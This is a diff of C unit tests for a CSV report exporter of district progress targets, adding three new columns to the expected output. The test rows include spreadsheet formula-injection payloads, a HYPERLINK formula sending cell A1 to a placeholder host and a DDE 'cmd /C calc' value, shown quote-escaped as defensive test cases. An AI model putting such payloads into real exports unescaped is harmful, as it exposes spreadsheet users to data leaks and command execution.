@@ -25,7 +25,7 @@ static char *render(struct agg_progress_target *t, size_t n)
 
 #define HEADER                                                                                     \
     "year,as_of,district,code,name_zh,name_en,unit,kind,actual,target,comparator,pct,status,"      \
-    "units_reporting\n"
+    "units_reporting,expected_to_date,pace_pct,target_scope\n"
 
 Test(report_csv, formula_cells_get_a_quote_and_numbers_stay_numbers)
 {
@@ -57,9 +57,9 @@ Test(report_csv, formula_cells_get_a_quote_and_numbers_stay_numbers)
                      HEADER "2015,2015-06-30T23:59:59.999+08:00,,evil,"
                             "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\","
                             "\"'@SUM(1+1)*cmd|' /C calc'!A0\",\"'+1\",sum,-12.5,-3,>=,-416.67,"
-                            "met,2\n"
+                            "met,2,,,city\n"
                             "2015,2015-06-30T23:59:59.999+08:00,,tabbed,\"'\t=1+2\",\"'\r=1+2\","
-                            "\"'-\",sum,-0.25,10,>=,,no_data,0\n");
+                            "\"'-\",sum,-0.25,10,>=,,no_data,0,,,city\n");
 }
 
 Test(report_csv, ordinary_cells_are_left_as_they_are)
@@ -77,5 +77,5 @@ Test(report_csv, ordinary_cells_are_left_as_they_are)
                                        .units_reporting = 1}};
     cr_assert_str_eq(render(t, 1), HEADER "2015,2015-06-30T23:59:59.999+08:00,,rd_centers,"
                                           "市级研发中心,\"Municipal R&D centres, new\",个,sum,"
-                                          "0.5,100,<=,0.5,on_track,1\n");
+                                          "0.5,100,<=,0.5,on_track,1,,,city\n");
 }
